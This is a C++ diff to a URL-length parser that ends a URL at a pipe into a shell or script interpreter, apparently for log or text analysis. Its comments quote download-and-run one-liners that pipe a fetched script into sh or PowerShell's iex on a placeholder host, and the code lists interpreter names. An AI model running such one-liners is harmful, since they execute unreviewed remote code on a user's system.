@@ -67,6 +67,24 @@ bool starts_escape(std::string_view url, std::size_t i) {
     return next == 'n' || next == 'r' || next == 't' || next == 'u' || next == '"' || next == '\'';
 }
 
+/// Whether `rest`, the text after a "|" in a URL, is the name of a shell or
+/// script interpreter that a one-liner pipes the download into
+/// ("wget -O- http://x/a.sh|sh", "iwr http://x/s.ps1|iex"), ending the text
+/// or followed by a byte no file name holds ("|sh;", "|bash)").
+bool pipes_to_interpreter(std::string_view rest) {
+    static constexpr std::string_view kInterpreters[] = {"bash", "dash", "iex", "ksh", "perl", "python", "python3", "sh", "zsh"};
+    static constexpr ByteSet kNameBytes{"-./=?#%~"};
+    static constexpr ByteSet kFirstLetters{"bdikpszBDIKPSZ"};
+    if (rest.empty() || !kFirstLetters.contains(rest[0])) return false;   // most "|" in URLs
+    for (std::string_view name : kInterpreters) {
+        if (rest.size() < name.size() || !equal_ignoring_ascii_case(rest.substr(0, name.size()), name)) continue;
+        if (rest.size() == name.size()) return true;
+        const char next = rest[name.size()];
+        if (!is_word(next) && !kNameBytes.contains(next)) return true;
+    }
+    return false;
+}
+
 }  // namespace
 
 namespace {
@@ -85,15 +103,22 @@ std::size_t find_precise_stop(std::string_view url, std::size_t from) {
 /// What precise_length() read on the way.
 struct PreciseRead {
     std::optional<UrlParts> split;   ///< split_url(url), when it had to split
-    std::size_t first_stop = 0;      ///< of kPreciseStops, or url.size()
+    std::size_t first_stop = 0;      ///< of kPreciseStops (not a "|" into no interpreter), or url.size()
     bool backslash = false;          ///< false: no backslash before the length returned
 };
 
 /// precise_length(), telling in `read` what it found.
 std::size_t precise_length(std::string_view url, PreciseRead& read) {
-    const std::size_t first_stop = find_precise_stop(url, 0);
+    std::size_t first_stop = find_precise_stop(url, 0);
+    // A "|" first: the pipe of a one-liner ends the URL at once ("a.sh|sh",
+    // a short URL every few bytes); any other is passed as no stop ("/a|b").
+    while (first_stop < url.size() && url[first_stop] == '|') {
+        if (pipes_to_interpreter(url.substr(first_stop + 1))) break;
+        first_stop = find_precise_stop(url, first_stop + 1);
+    }
     read.first_stop = first_stop;
     if (first_stop == url.size()) return url.size();   // most URLs
+    if (url[first_stop] == '|') return first_stop;
     // A log's quoted URL ("https://x.example/a"): after a plain scheme the
     // host starts right after "://" (what may come between is a stop), so a
     // '"' that is the first stop lies in the host or after it and ends the URL.
@@ -144,6 +169,9 @@ std::size_t precise_length(std::string_view url, PreciseRead& read) {
             case '[': case '(':
                 if (in_host) return i;
                 ++(url[i] == '[' ? square : round);
+                break;
+            case '|':
+                if (pipes_to_interpreter(rest.substr(1))) return i;
                 break;
             case '{': ++curly; break;
             case ')': if (--round < 0) return i; break;
